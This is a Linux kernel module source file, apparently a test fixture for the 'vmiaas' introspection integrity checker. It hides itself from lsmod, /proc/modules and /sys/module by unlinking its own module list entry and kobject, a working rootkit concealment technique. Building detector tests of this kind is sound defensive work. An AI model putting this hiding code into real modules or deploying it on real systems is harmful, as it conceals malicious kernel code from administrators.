// SPDX-License-Identifier: GPL-2.0
/*
 * vmiaas_attack_hidemod: module self-hiding, for the integrity tests.
 * Takes this module off the module list (lsmod, /proc/modules) and its
 * kobject out of /sys/module, as rootkits do: list_del_rcu() of
 * THIS_MODULE->list and kobject_del() of THIS_MODULE->mkobj.kobj. It
 * stays in the kernel's module address tree (mod_tree), which is what
 * vmiaas compares the list with.
 *
 * The hiding runs from a work item once the module is live, so that
 * do_init_module() (which sends the kobject's ADD uevent after init)
 * is done with it. module_mutex is not exported; a module load racing
 * with the unlocked list_del_rcu() is not a concern in the tests.
 *
 * There is no exit function: a hidden module cannot be found by
 * delete_module() anyway, and the kobject cannot be put back. The module
 * stays until the guest is rebooted; the tests load it last.
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/delay.h>
#include <linux/init.h>
#include <linux/kernel.h>
#include <linux/kobject.h>
#include <linux/module.h>
#include <linux/rculist.h>
#include <linux/workqueue.h>

static void hide_fn(struct work_struct *work)
{
	int i;

	for (i = 0; i < 100 && READ_ONCE(THIS_MODULE->state) != MODULE_STATE_LIVE; i++)
		msleep(20);
	list_del_rcu(&THIS_MODULE->list);
	kobject_del(&THIS_MODULE->mkobj.kobj);
	pr_info("hidden from the module list and /sys/module\n");
}

static DECLARE_WORK(hide_work, hide_fn);

static int __init vmiaas_attack_hidemod_init(void)
{
	schedule_work(&hide_work);
	return 0;
}

module_init(vmiaas_attack_hidemod_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("vmiaas test: a module hiding itself (list and sysfs)");
